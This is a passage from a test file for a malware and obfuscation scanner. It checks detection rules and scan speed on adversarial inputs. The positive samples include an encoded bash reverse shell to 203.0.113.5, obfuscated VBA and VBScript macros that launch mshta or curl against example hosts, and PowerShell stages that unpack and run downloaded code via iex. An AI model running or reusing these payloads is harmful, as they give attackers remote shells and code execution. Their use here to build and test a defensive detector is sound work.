      'import base64, builtins\nsrc = base64.b32decode(BLOB)\nprint(getattr(builtins, "len")(src))\ncompile(TEMPLATE, "<t>", "exec")\n',
  },
]);

describe('adversarial decoding helpers', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['decoding returns', 'exec(f())\n' + '    return a.b85decode(x) + '.repeat(MiB / 28)],
    ['function heads', 'exec(compile(\n    return z.decompress(b)\n' + 'def f(x):\n'.repeat(MiB / 10)],
    ['builtin lookups', 'x = z.decompress(b)\n' + 'getattr(builtins, a)(compile( '.repeat(MiB / 32)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'scripts/x.py');
  });
});

describe('runs that only start like a compressed stream', () => {
  const MiB = 1024 * 1024;
  const decoy = "  p = 'eJxLTEpWSM/PT8lMz0xN'\n";
  const payload = deflateSync(Buffer.from('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')).toString('base64');

  // 37k short `.ps1` lines cost ~0.45 s in jest for the whole engine, and once 1.25 s in a CI run:
  // the lines half is 512 KiB so the bound tests the inflate cap, not the per-line reading.
  it('should scan 1 MiB of them on one line, and 512 KiB of them on lines, in under a second', () => {
    expectScansQuickly(
      [decoy.repeat(MiB / 2 / decoy.length), "'H4sIAAAAAAAA' ".repeat(MiB / 15)],
      'tools/x.ps1',
    );
  });

  it('should still decode a compressed payload placed after thousands of short decoys', () => {
    const ids = findingsOf(decoy.repeat(3000) + `  q = '${payload}'\n`, 'scripts/a.py').map((f) => f.rule_id);
    expect(ids).toContain('SG-RSHELL-001');
  });
});

describeRuleCases('obfuscation (VBA/VBScript launchers built from hiding functions)', [
  {
    id: 'SG-OBFUSC-008',
    file: 'macros/Launch.bas',
    positive:
      'Attribute VB_Name = "Launch"\nSub Document_Open()\n    Dim c As String\n' +
      '    c = Join(Array("msh", "ta.e", "xe ht", "tp://cdn-upd", "ate.example.org/k.hta"), "")\n' +
      '    CreateObject(StrReverse("llehS.tpircSW")).Run c, 0\nEnd Sub\n',
    negative:
      'Attribute VB_Name = "Launch"\nSub OpenNotes()\n    Dim c As String\n' +
      '    c = "notepad.exe " & Chr(34) & "C:\\Reports\\summary.txt" & Chr(34)\n' +
      '    CreateObject("WScript.Shell").Run c, 1\nEnd Sub\n',
  },
  {
    id: 'SG-OBFUSC-008',
    file: 'tools/refresh.vbs',
    positive:
      'Dim s, sh\ns = Chr(109) & Chr(115)\ns = s & Chr(104) & Chr(116) & Chr(97)\n' +
      's = s & " http://files.example.com/x.hta"\nSet sh = CreateObject("WScript.Shell")\nsh.Exec(s)\n',
    negative:
      'Dim s, sh\ns = "explorer.exe"\ns = s & " " & Chr(34) & "C:\\Shared\\Exports" & Chr(34)\n' +
      'Set sh = CreateObject("WScript.Shell")\nsh.Exec(s)\n',
  },
]);

describeRuleCases('obfuscation (VBA class modules)', [
  {
    id: 'SG-OBFUSC-008',
    file: 'src/Sheet1.cls',
    positive:
      'VERSION 1.0 CLASS\nBEGIN\nEND\nAttribute VB_Name = "Sheet1"\nPrivate Sub Worksheet_Activate()\n' +
      '    Shell StrReverse("sbv.x/gro.elpmaxe.sotohp-erahs//:sptth ath" & "sm"), vbHide\nEnd Sub\n',
    negative:
      'VERSION 1.0 CLASS\nBEGIN\nEND\nAttribute VB_Name = "Sheet1"\nPrivate Sub Worksheet_Activate()\n' +
      '    Shell "calc.exe", vbNormalFocus\nEnd Sub\n',
  },
]);

describeRuleCases('obfuscation (VBScript code run from a reversed string)', [
  {
    id: 'SG-OBFUSC-008',
    file: 'tools/sync.vbs',
    positive:
      'Dim k\nk = "0 ,""tab.s && tab.s o- tab.s/ten.elpmaxe.rorrim//:sptth s- lruc c/ dmc"" nuR.o :)""llehS.tpircSW""(tcejbOetaerC = o teS"\nExecuteGlobal StrReverse(k)\n',
    negative:
      'Dim k\nk = "noitamrofnIbv ,""redlof stropxE eht ni ydaer si troper ylkeew ehT"" xoBgsM"\nExecuteGlobal StrReverse(k)\n',
  },
]);

describe('adversarial VBA string evaluation', () => {
  const MiB = 1024 * 1024;
  const names = Array.from({ length: 26 }, (_, i) => String.fromCharCode(97 + i));
  let web = '';
  for (let r = 0; r < 32; r++)
    for (let i = 0; i < 26; i++)
      web += `${names[i]} = ${names[(i + 1) % 26]} & ${names[(i + 2) % 26]} & Chr(65) & ${names[(i + 3) % 26]}\n`;
  const cases: [string, string][] = [
    [
      'self-referencing reversals',
      'Sub AutoOpen()\n' + 'x = StrReverse(x & y) & Chr(65)\nCreateObject(x).Run x & y, 0\n'.repeat(MiB / 56),
    ],
    ['open calls', 'CreateObject(' + 'Chr((('.repeat(MiB / 14) + '\n'],
    ['one long concatenation', 'CreateObject(StrReverse(' + '"a" & '.repeat(MiB / 6) + '"b"))\n'],
    [
      'distinct names',
      Array.from({ length: 20000 }, (_, i) => `.Run v${i} & StrReverse(w${i}) & Join(p${i}, "")`).join('\n'),
    ],
    [
      'array items',
      'p(0) = "x"\n'.repeat(MiB / 22) + 'q = p\n'.repeat(MiB / 12) + '.Run Join(p, "") & Join(q, "")\n',
    ],
    ['a web of assignments', (web + '.Run a & b\n').repeat(Math.floor(MiB / (web.length + 11)))],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'macros/X.bas');
  });
});

/** A gzip+base64 blob cut into four table entries (PowerShell `@{ a = '…'; … }`), joined when run. */
function psPieces(blob: string): string {
  const n = blob.length / 4;
  const parts = [0, 1, 2, 3].map((i) => `  p${i} = '${blob.slice(i * n, (i + 1) * n)}'`);
  return `$t = @{\n${parts.join('\n')}\n}\n$s = $t.p0 + $t.p1 + $t.p2 + $t.p3\n`;
}

describeRuleCases('obfuscation (compressed blob in pieces)', [
  {
    id: 'SG-OBFUSC-008',
    file: 'scripts/Tidy.ps1',
    // Decodes to a WebClient download run by iex.
    positive: psPieces(
      'H4sIAAAAAAACAwXBsQqAIBQF0F9xCKyhJ61FU802NDSrPcoQlbxgn985jZs1136zDzsIzaCD7RI8R0yeP9E4WlONIZlzx+vj1cobyGVUqsBcTNacdyqgyFCZchlk9wNOTQGpVAAAAA==',
    ),
    // Decodes to a CSV header template: data, not a command.
    negative: psPieces(
      'H4sIAAAAAAACAwvNyyzRCUnNS8wr0QlKBRJOiTmJecmpXI6GOi75qQpeOoZGBgY6BlyORjpBQL63jqGxqYGOuSkXAPPAhQU6AAAA',
    ),
  },
]);

describe('adversarial compressed pieces', () => {
  const MiB = 1024 * 1024;
  // Gzip heads that never inflate, each followed by the most pieces the join walks through.
  const piece = (c: string) => `'${c.repeat(4000 / c.length)}'\n`;
  const group = piece('H4sIAAAAAAACAwXBsQqA') + piece('QaFu0DAEINUOjSUoa1LX').repeat(16);
  const text = group.repeat(12) + 'hello world ok\n'.repeat((MiB - group.length * 12) / 15);
  it('should scan 1 MiB of long pieces after gzip heads in under a second', () => {
    expectScansQuickly([text], 'scripts/x.ps1');
  });
});

const PS_UNPACK_HEAD =
  '$b = [Convert]::FromBase64String($packed)\n$ms = New-Object IO.MemoryStream(,$b)\n$gz = New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress)\n$code = (New-Object IO.StreamReader($gz)).ReadToEnd()\n';

describeRuleCases('obfuscation (PowerShell packed stage)', [
  {
    id: 'SG-OBFUSC-023',
    file: 'tools/Setup-Report.ps1',
    positive: PS_UNPACK_HEAD + 'Invoke-Expression $code\n',
    // The unpacked text is a report template written to disk; the scriptblock run is the script's own.
    negative:
      PS_UNPACK_HEAD +
      "Set-Content -Path $out -Value $code\n$job = [ScriptBlock]::Create('Get-Date')\n& $job\n",
  },
]);

describe('adversarial PowerShell packed stages', () => {
  const MiB = 1024 * 1024;
  const head = 'FromBase64String GZipStream\n';
  const cases: [string, string][] = [
    ['runs of many names', head + Array.from({ length: MiB / 16 }, (_, i) => `iex $v${i % 997}\n`).join('')],
    ['assignments', head + 'iex $a\n' + '$a = x '.repeat(MiB / 7)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'tools/x.ps1');
  });
});
